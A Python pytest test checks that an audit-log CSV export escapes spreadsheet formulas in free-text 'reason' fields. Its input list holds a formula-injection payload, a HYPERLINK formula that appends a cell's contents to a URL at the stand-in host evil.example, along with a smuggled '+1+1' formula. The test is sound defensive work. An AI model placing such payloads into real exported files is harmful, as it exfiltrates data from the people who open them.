"""The log of reads as a file, for whoever looks into what others have seen."""

import csv

import neo4j

from tests.reconnect.shell import Run


def test_what_readers_have_written_is_data_in_a_spreadsheet(run: Run, clean_graph: neo4j.Driver) -> None:
    """The reason is free text of the person whom the log is about."""
    reasons = ['=HYPERLINK("https://evil.example/?"&C2,"sag 12")', " +1+1", "sag 12", None]
    clean_graph.execute_query(
        """
        UNWIND range(0, size($reasons) - 1) AS place
        CREATE (:PersonRead {at: datetime() - duration({minutes: place}), by: 'person:a', operation: 'Look',
            groups: ['private', 'cpr'], persons: ['b'], reason: $reasons[place]})
        """,
        reasons=reasons,
    )
    done = run("reads", "export", "--from", "2020-01-01")
    rows = list(csv.DictReader(done.stdout.splitlines()))
    assert [each["reason"] for each in rows] == [f"'{reasons[0]}", f"'{reasons[1]}", "sag 12", ""]
    assert {(each["by"], each["person"], each["groups"]) for each in rows} == {("person:a", "b", "private cpr")}
